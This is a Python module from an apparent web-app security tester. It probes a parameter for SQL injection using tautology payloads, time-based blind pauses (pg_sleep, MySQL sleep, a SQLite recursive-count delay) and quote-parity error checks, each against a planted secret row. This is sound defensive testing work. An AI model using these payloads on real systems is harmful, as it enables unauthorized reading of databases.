"""Values that change what an SQL statement does: rows that ought not to be seen, or a pause that was asked for."""

from __future__ import annotations

import contextlib
import re
import sqlite3
import time
from collections.abc import Iterator, Sequence
from functools import cache

from roadworthy.app import Origin, Table
from roadworthy.patterns.malicious_input.injection.planted_rows import plant
from roadworthy.patterns.malicious_input.injection.scene import Scene
from roadworthy.proof import Reproduction
from roadworthy.proof.experiment import database_of
from roadworthy.proof.own_statements import last_statements
from roadworthy.proof.page_text import said
from roadworthy.trial import Response

# Each ends the value where it stands (text, a number, within brackets) and leaves out the rest of the statement.
# MySQL takes two dashes for a comment only where a space follows.
_ALL_ROWS = ("' or 1=1 -- x", "1 or 1=1 -- x", "') or 1=1 -- x", "1) or 1=1 -- x")
_PAUSE_SECONDS = 1.5
# As text, as a number or a name to sort by, and as a statement of its own.
_COUNTING = (
    "with recursive r(x) as (select 1 union all select x + 1 from r limit {rows}) select count(*) n from r"
)
# So much further than was counted beside it in the same time: other work on the machine makes either slower.
_FURTHER = 1.5
_PAUSES = {
    "postgres": (
        "{mark}'||(select '' from pg_sleep({seconds}))||'",
        "(select 1 from pg_sleep({seconds}))",
        "{mark}'; select pg_sleep({seconds}) --",
        "1; select pg_sleep({seconds}) --",
        # Where no row is found, nothing that rows are sorted by is reckoned; how many may come is.
        "1 limit (select 1 from pg_sleep({seconds}))",
    ),
    # SQLite has nothing that waits: it is made to count, so far that it takes as long.
    "sqlite": (
        "{mark}'||(select '' from ({counting}))||'",
        "(select n * 0 + 1 from ({counting}))",
    ),
    "mysql": (
        "{mark}' or (select sleep({seconds})) = 1 or '",
        "(select sleep({seconds}))",
        "{mark}'; select sleep({seconds}) -- x",
    ),
}


def prove(scene: Scene) -> Reproduction:
    """First an honest value, then values that ask for all rows, then values that ask for a pause of known length."""
    experiment = scene.experiment
    database = database_of(scene.trial)
    secret, whose = plant(scene, _tables(scene))
    usual = _usual(scene)
    if not usual.ok:
        return experiment.untestable(f"an honest value is not accepted: {usual.status} {said(usual)[:80]}")
    seen = _leaked(scene, secret, whose) if secret and secret not in usual.text else ""
    if seen:
        return experiment.proven(seen)
    pauses = _PAUSES.get(database.kind, ())
    paused = _paused(scene, usual, pauses)
    if paused:
        return experiment.proven(paused)
    broken = _broken(scene)
    if broken:
        return experiment.proven(broken)
    if _is_text(scene):
        return experiment.untestable(
            "the value is part of the statement, but none of the values tried changed it"
        )
    if not pauses:
        return experiment.untestable(f"{database.kind} takes no pause, and no value showed other rows")
    return experiment.cleared(
        "the values came out as values: no other rows, no pause, none of them in the statement"
    )


def _usual(scene: Scene) -> Response:
    """The answer to an honest value: a word, and where only the name of a column will do, what the app itself takes for nothing."""
    says = f"{scene.actor} sends an honest `{scene.name}`"
    answer = scene.send(scene.mark, says, "arrange")
    default = "" if answer.ok else default_of(scene)
    return scene.send(default, says, "arrange") if default else answer


def default_of(scene: Scene) -> str:
    """What the statement gets where the request says nothing: `sort || "created_at"`."""
    given = [use.arguments for use in scene.endpoint.uses if use.location == scene.found.place]
    defaults = (
        str(one.value)
        for arguments in given
        for choice in _choices(arguments)
        if scene.found.part in choice
        for one in choice
        if one.kind == "constant" and one.value
    )
    return next(defaults, "")


def _choices(origins: Sequence[Origin]) -> Iterator[tuple[Origin, ...]]:
    """The values of which one is taken, at every place where the code chooses."""
    for origin in origins:
        if origin.operation in ("or", "??"):
            yield origin.inputs
        yield from _choices(origin.inputs)


def _leaked(scene: Scene, secret: str, whose: str) -> str:
    """What is told where a condition that always holds showed the row, and the same with one that never holds did not."""
    for value in _ALL_ROWS:
        sent = f"{scene.mark}{value}" if value[0] == "'" else value
        answer = scene.send(sent, f"`{scene.name}` asks for all rows")
        if not answer.ok or secret not in answer.text:
            continue
        never = scene.send(sent.replace("1=1", "1=2"), "the same with what never holds", "observe")
        if secret not in never.text:
            return f"`{scene.name}` with `{value}` in it showed {scene.actor} {whose} ({secret})"
    return ""


def _broken(scene: Scene) -> str:
    """What is told where one quotation mark breaks the statement and two, which stand for one within a text, do not: for as many as
    there are."""
    answers = [
        (
            scene.send(
                f"{scene.mark}{marks}q", f"`{scene.name}` with {len(marks)} quotation marks", "observe"
            ),
            len(marks) % 2 == 1,
        )
        for marks in ("'", "''", "'''", "''''")
    ]
    if all(answer.status >= 500 if odd else answer.ok for answer, odd in answers):
        return (
            f"`{scene.name}` with one quotation mark in it, or three, ends in a failure ({answers[0][0].status}), with two or four "
            "it is answered: the marks are the statement's own"
        )
    return ""


def _paused(scene: Scene, usual: Response, pauses: Sequence[str]) -> str:
    """What is told where a pause of the asked length came twice, and none when none was asked for."""
    for value in pauses:
        if not _waits(scene, value):
            continue
        at_once = scene.send(_filled(scene, value, 0), "the same with no pause", "observe")
        if at_once.seconds < _PAUSE_SECONDS / 2 and _waits(scene, value):
            scene.experiment.measure("answered without a pause", round(usual.seconds * 1000), "ms")
            return (
                f"`{scene.name}` made the database wait {_PAUSE_SECONDS} s, twice, and not at all "
                f"({at_once.seconds * 1000:.0f} ms) when it asked for none"
            )
    return ""


def _waits(scene: Scene, value: str) -> bool:
    answer = scene.send(
        _filled(scene, value, _PAUSE_SECONDS),
        f"`{scene.name}` asks the database for a pause of {_PAUSE_SECONDS} s",
    )
    return answer.status != 0 and answer.seconds >= _PAUSE_SECONDS


def _filled(scene: Scene, value: str, seconds: float) -> str:
    counting = ""
    if "{counting}" in value:
        rows = max(1, round(seconds * _FURTHER * _counted_per_second()))
        counting = _COUNTING.format(rows=rows)
    return value.format(mark=scene.mark, seconds=seconds, counting=counting)


@cache
def _counted_per_second() -> float:
    """What SQLite counts in a second on this machine."""
    rows = 500_000
    with contextlib.closing(sqlite3.connect(":memory:")) as connection:
        began = time.perf_counter()
        connection.execute(_COUNTING.format(rows=rows)).fetchone()
        return rows / (time.perf_counter() - began)


def _is_text(scene: Scene) -> bool:
    """Whether a quotation mark arrives in the statement as it was sent. What is bound does not stand in the statement, and what is
    escaped stands there doubled."""
    word = f"{scene.mark}'q"
    scene.send(word, "a value with a quotation mark in it", "observe")
    return any(word in statement for statement in last_statements(database_of(scene.trial)))


def _tables(scene: Scene) -> list[Table]:
    """The tables that the endpoint's statements name."""
    written = " ".join(f"{query.table} {query.sql}" for query in scene.endpoint.queries)
    for use in (*scene.endpoint.uses, *(scene.found.endpoint.uses if scene.found.endpoint else ())):
        if use.kind == "sql":
            written += " " + " ".join(str(origin) for origin in use.arguments)
    kept = database_of(scene.trial).tables()
    return [
        table
        for table in scene.app.tables
        if table.name in kept and re.search(rf"\b{re.escape(table.name)}\b", written)
    ]
